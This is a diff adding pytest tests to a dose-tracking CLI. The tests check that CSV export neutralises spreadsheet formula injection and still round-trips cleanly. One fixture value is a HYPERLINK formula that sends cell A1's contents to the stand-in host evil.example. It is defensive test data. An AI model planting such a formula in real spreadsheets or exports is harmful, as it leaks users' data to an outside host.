@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import urllib.parse
@@ -15,6 +16,7 @@ import pytest
 from typer.testing import CliRunner
 
 from collector.cli import app
+from collector.doses.csvio import neutralise, unneutralise
 from collector.storage import local_influx
 from tests.cli.console import Console, flat
 from tests.doses.cases import Case, cases
@@ -227,3 +229,50 @@ def test_dose_add_is_never_refused_while_influx_is_unreachable(tmp_path: Path, w
         assert sorted((v[1], v[2]) for v in values) == [(200.0, ""), (300.0, "while down")]
     finally:
         local_influx.stop(root)
+
+
+NOTES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3 mg less", "@SUM(1)",
+         "'tis the season", "plain"]
+
+
+def test_export_neutralises_spreadsheet_formulas_and_reimports_as_is(
+    tmp_path: Path, influx_server: Any, influx_db: str
+) -> None:
+    """Issue 20 #11: no exported cell starts a formula; the export still re-imports as is."""
+    home = tmp_path / "home"
+    home.mkdir()
+    con = Console(home, {"persons": [{"name": "alice", "timezone": "Europe/Berlin"}],
+                         "influx": {"embedded": False, "url": influx_server.url,
+                                    "database": influx_db}})
+    day = (datetime.now(UTC) - timedelta(days=2)).date().isoformat()
+    src = tmp_path / "in.csv"
+    with src.open("w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["person", "amount_mg", "taken_at", "note"])
+        for k, note in enumerate(NOTES):
+            w.writerow(["alice", 100 + k, f"{day} 21:{k:02d}", note])
+    r = con.run("dose", "import", str(src))
+    assert r.returncode == 0, r.stdout + r.stderr
+    out = tmp_path / "out.csv"
+    r = con.run("dose", "export", "-o", str(out))
+    assert r.returncode == 0, r.stdout + r.stderr
+    with out.open(encoding="utf-8", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    with out.open(encoding="utf-8", newline="") as fh:
+        notes = sorted(row["note"] for row in csv.DictReader(fh))
+    assert notes == sorted(["'" + n if n[:1] in "=+-@" else n for n in NOTES])
+    r = con.run("dose", "import", str(out))
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert f"imported 0 dose(s); {len(NOTES)} already there" in flat(r.stdout)
+    rows = influx_server.rows("SELECT note FROM supplement_dose", influx_db)
+    assert sorted(r["note"] for r in rows) == sorted(NOTES)  # stored as given
+
+
+@pytest.mark.parametrize(("text", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
+    ("\r=x", "'\r=x"), ("'=x", "''=x"), ("''x", "'''x"), ("'x", "'x"), ("x=1", "x=1"), ("", ""),
+])
+def test_neutralise_round_trips(text: str, cell: str) -> None:
+    assert neutralise(text) == cell
+    assert unneutralise(cell) == text
